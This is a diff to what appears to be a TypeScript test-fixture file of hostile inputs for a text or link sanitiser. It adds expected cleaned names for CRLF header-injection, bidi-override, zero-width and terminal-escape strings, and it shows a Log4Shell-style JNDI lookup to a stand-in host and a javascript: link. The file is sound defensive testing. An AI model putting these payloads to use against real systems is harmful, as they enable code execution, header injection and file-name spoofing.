@@ -79,6 +79,16 @@ export const texts = [
   '$' + '{jndi:ldap://evil.example/a}',
 ]
 
+/** Those of the texts that look otherwise as a name: in one line, without what cannot be seen. */
+export const asNames: Record<string, string> = {
+  'a\r\nSet-Cookie: a=b\r\n\r\n<x>': 'a Set-Cookie: a=b <x>',
+  'line one\nline two\ttab': 'line one line two tab',
+  '\u202egnp.exe right to left': 'gnp.exe right to left',
+  '\u2066hidden\u2069 isolate': 'hidden isolate',
+  'zero\u200bwidth\u200djoin\ufeffer': 'zerowidthjoiner',
+  '\u0007bell\u001b[31mred': 'bell[31mred',
+}
+
 /** Addresses that lead elsewhere than they say, or run something. */
 export const badLinks = [
   'javascript:alert(1)',
